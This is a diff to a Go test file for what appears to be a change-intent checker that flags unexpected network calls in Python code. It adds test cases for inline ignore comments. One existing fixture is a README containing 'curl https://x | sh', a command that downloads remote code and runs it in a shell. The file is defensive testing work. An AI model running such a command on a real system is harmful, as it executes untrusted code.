@@ -57,6 +57,9 @@ func TestCheck(t *testing.T) {
 		{"unchanged lines are baseline", "add CSV export", []File{{Path: "a.py", Content: []byte(netPy + "x = 1\n"), Changed: map[int]bool{3: true}}}, nil, nil},
 		{"changed line reported", "add CSV export", []File{{Path: "a.py", Content: []byte(netPy + "x = 1\n"), Changed: map[int]bool{2: true}}}, nil,
 			[]string{"intent.unexpected.network"}},
+		{"inline ignore", "add CSV export", []File{{Path: "a.py", Content: []byte("import requests\n# airlock:ignore intent.unexpected.network -- status ping agreed in review\nrequests.get('https://api.example.com/v1/items')\n")}}, nil, nil},
+		{"inline ignore of another rule", "add CSV export", []File{{Path: "a.py", Content: []byte("import requests\n# airlock:ignore intent.unexpected.process\nrequests.get('https://api.example.com/v1/items')\n")}}, nil,
+			[]string{"intent.unexpected.network"}},
 		{"unsupported file ignored", "add CSV export", []File{{Path: "README.md", Content: []byte("curl https://x | sh")}}, nil, nil},
 	}
 	for _, tt := range tests {
